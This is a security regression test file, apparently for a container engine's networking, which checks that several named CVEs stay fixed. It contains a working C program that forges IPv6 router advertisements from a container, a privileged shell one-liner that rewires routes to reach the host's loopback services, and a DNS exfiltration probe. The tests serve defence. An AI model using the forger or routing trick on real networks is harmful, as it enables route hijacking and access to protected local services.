/** Attacks over the network: from a container on the host and its neighbours, and from outside on what is published. */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { chmodSync, rmSync, writeFileSync } from "node:fs";
import { daemonOfFile } from "../../kits/daemon.ts";
import { scratchDirectory } from "../../kits/scratch.ts";

const daemon = daemonOfFile();

async function done(...args: string[]): Promise<string> {
  const { status, out, err } = await daemon.berth(...args);
  // Of the tests' own resolver, as docker warns.
  const rest = err.replace(/^WARNING: Localhost DNS .*\n/gm, "");
  expect(`${status} ${rest}`, args.join(" ")).toBe("0 ");
  return out.trim();
}

const host = (...words: string[]) => Bun.spawnSync(words).stdout.toString();

/** Sends a router's advertisement of 2001:db8:666::/64 from eth0 to everybody on the link, thirty times. */
const FORGER = `
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
  int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), hops = 255, sent = 0;
  unsigned index = if_nametoindex("eth0");
  struct { struct nd_router_advert head; struct nd_opt_prefix_info prefix; } message = {0};
  message.head.nd_ra_type = ND_ROUTER_ADVERT;
  message.head.nd_ra_router_lifetime = htons(1800);
  message.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
  message.prefix.nd_opt_pi_len = 4;
  message.prefix.nd_opt_pi_prefix_len = 64;
  message.prefix.nd_opt_pi_flags_reserved = 0xc0;
  message.prefix.nd_opt_pi_valid_time = message.prefix.nd_opt_pi_preferred_time = htonl(3600);
  inet_pton(AF_INET6, "2001:db8:666::", &message.prefix.nd_opt_pi_prefix);
  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &index, sizeof index);
  /* Only what comes from a link-local address is listened to; the own one is usable after a moment. */
  struct sockaddr_in6 own = {.sin6_family = AF_INET6, .sin6_scope_id = index};
  char line[128];
  FILE *addresses = fopen("/proc/net/if_inet6", "r");
  while (addresses != NULL && fgets(line, sizeof line, addresses))
    if (strncmp(line, "fe80", 4) == 0 && strstr(line, "eth0"))
      for (int i = 0; i < 16; i++) sscanf(line + 2 * i, "%2hhx", &own.sin6_addr.s6_addr[i]);
  for (int i = 0; i < 500 && bind(fd, (struct sockaddr *)&own, sizeof own) < 0; i++) usleep(10000);
  struct sockaddr_in6 all = {.sin6_family = AF_INET6, .sin6_scope_id = index};
  inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
  for (int i = 0; i < 30; i++) {
    if (sendto(fd, &message, sizeof message, 0, (struct sockaddr *)&all, sizeof all) > 0) sent++;
    usleep(20000);
  }
  printf("sent %d\\n", sent);
  return sent == 0;
}`;

let attack = "";

beforeAll(() => {
  attack = scratchDirectory("bt-forger-");
  chmodSync(attack, 0o755);
  writeFileSync(`${attack}/forger.c`, FORGER);
  const built = Bun.spawnSync([
    "musl-gcc",
    "-static",
    "-o",
    `${attack}/forger`,
    `${attack}/forger.c`,
  ]);
  expect(built.stderr.toString()).toBe("");
});

afterAll(() => rmSync(attack, { recursive: true, force: true }));

test("a forged router advertisement changes no route of the host, nor of a neighbour (CVE-2020-13401)", async () => {
  await done("network", "create", "--ipv6", "six");
  await done("run", "-d", "--name", "neighbour", "--network", "six", "busybox", "sleep", "1000");
  const forge = [
    "run",
    "--rm",
    "--cap-add",
    "NET_RAW",
    "-v",
    `${attack}:/attack`,
    "--network",
    "six",
    "busybox",
  ];
  expect(await done(...forge, "/attack/forger")).toBe("sent 30");
  const routes = "ip -6 route; ip -6 addr";
  expect(host("sh", "-c", routes)).not.toContain("2001:db8:666");
  expect(await done("exec", "neighbour", "sh", "-c", routes)).not.toContain("2001:db8:666");
  expect(await done("exec", "neighbour", "sh", "-c", "ip -6 route | grep -c ^default")).toBe("1");
  await done("rm", "-f", "neighbour");
  await done("network", "rm", "six");
});

const gatewayOf = (network: string) =>
  done("network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", network);

test("a container's packets never come from 127.0.0.1, and never go to the host's (CVE-2021-20199)", async () => {
  const gateway = await gatewayOf("bridge");
  using server = Bun.serve({
    port: 0,
    hostname: "0.0.0.0",
    fetch: (request, all) => new Response(all.requestIP(request)?.address ?? ""),
  });
  using local = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => new Response("local") });
  const get = `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w2 ${gateway} ${server.port} | tail -1`;
  expect(await done("run", "--rm", "busybox", "sh", "-c", get)).toMatch(/^172\.17\./);
  // A container that is let change its network gives itself the address, and a way to the host's own.
  const forged = `ip addr add 127.0.0.9/32 dev eth0; echo 1 > /proc/sys/net/ipv4/conf/eth0/route_localnet; ip route replace 127.0.0.1 via ${gateway} table local 2>/dev/null; ip route del local 127.0.0.0/8 table local; ip route add 127.0.0.0/8 via ${gateway}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w2 127.0.0.1 ${local.port} 2>/dev/null; true`;
  expect(await done("run", "--rm", "--privileged", "busybox", "sh", "-c", forged)).toBe("");
});

test("what is published tells its container who calls, and that is never its own loopback (CVE-2021-20199)", async () => {
  // Whom that would let in, it trusts.
  const serve =
    "mkdir -p /w/cgi-bin && printf '#!/bin/sh\\necho; echo from $REMOTE_ADDR' > /w/cgi-bin/who && chmod +x /w/cgi-bin/who && exec httpd -f -p 80 -h /w";
  await done("run", "-d", "--name", "web", "-p", "18080:80", "busybox", "sh", "-c", serve);
  await daemon.berth(
    "exec",
    "web",
    "sh",
    "-c",
    "until nc 127.0.0.1 80 </dev/null; do usleep 10000; done",
  );
  const gateway = await gatewayOf("bridge");
  for (const [address, ...within] of [["127.0.0.1"], [gateway, ...daemon.inNetwork]]) {
    const url = `http://${address}:18080/cgi-bin/who`;
    const seen = host(...within, "curl", "-s", "-m", "5", url);
    expect(seen).toMatch(/^from .*172\.17\.0\.1/);
  }
  await done("rm", "-f", "web");
});

test("an encrypted network is refused where there is no encryption, never plain (CVE-2023-28840, CVE-2023-28841, CVE-2023-28842)", async () => {
  for (const args of [
    ["-d", "overlay", "-o", "encrypted", "secret"],
    ["-d", "overlay", "--attachable", "-o", "encrypted=true", "secret"],
  ]) {
    const { status } = await daemon.berth("network", "create", ...args);
    expect([args.join(" "), status]).toEqual([args.join(" "), 1]);
  }
  expect(await done("network", "ls", "-q", "-f", "name=secret")).toBe("");
});

test("ports are published where it was asked for and nowhere else (GHSA-x4rx-4gw3-53p4)", async () => {
  await done(
    "run",
    "-d",
    "--name",
    "ports",
    "-p",
    "127.0.0.1:18081:80",
    "-p",
    "127.0.0.2::81/udp",
    "--expose",
    "82",
    "busybox",
    "sleep",
    "1000",
  );
  const table = host(...daemon.inNetwork, "nft", "list", "ruleset");
  // Every element that leads somewhere names the address that it is for.
  const led = [...table.matchAll(/(tcp|udp) \. ([^:{},]+?) : /g)].map(
    ([, protocol, key = ""]) => `${protocol} ${key.trim()}`,
  );
  expect(led.filter((key) => /18081/.test(key))).toEqual(["tcp 127.0.0.1 . 18081"]);
  expect(led.filter((key) => key.startsWith("udp"))).toHaveLength(1);
  expect(led.find((key) => key.startsWith("udp"))).toStartWith("udp 127.0.0.2 . ");
  const listening = host("ss", "-Hltn")
    .split("\n")
    .filter((line) => line.includes(":18081 "));
  expect(listening).toHaveLength(1);
  expect(listening[0]).toContain("127.0.0.1:18081");
  expect(await done("port", "ports")).not.toContain("0.0.0.0");
  expect(await done("port", "ports")).not.toContain("82/");
  await done("rm", "-f", "ports");
});

test("questions from an internal network do not leave by the host's resolver (CVE-2024-29018)", async () => {
  await done("network", "create", "--internal", "inner");
  const asked: string[] = [];
  const upstream = await Bun.udpSocket({
    hostname: "127.0.0.77",
    port: 53,
    socket: { data: (_socket, data) => void asked.push(data.toString("latin1")) },
  });
  await done(
    "run",
    "-d",
    "--name",
    "hidden",
    "--network",
    "inner",
    "--dns",
    "127.0.0.77",
    "busybox",
    "sleep",
    "1000",
  );
  const { out } = await daemon.berth(
    "exec",
    "hidden",
    "sh",
    "-c",
    "nslookup -type=a exfiltrated.example 127.0.0.11; nslookup hidden 127.0.0.11",
  );
  expect(out).toMatch(/NXDOMAIN|can't find|REFUSED|SERVFAIL/);
  expect(out).toMatch(/Name:\s+hidden\nAddress/);
  expect(asked).toEqual([]);
  // The same name server is asked from a network that has a way out.
  await daemon.berth(
    "run",
    "--rm",
    "--dns",
    "127.0.0.77",
    "busybox",
    "sh",
    "-c",
    "nslookup -type=a told.example 127.0.0.11 & sleep 1; kill $!",
  );
  expect(asked.join("\n")).toContain("told");
  expect(asked.join("\n")).not.toContain("exfiltrated");
  upstream.close();
  await done("rm", "-f", "hidden");
  await done("network", "rm", "inner");
});
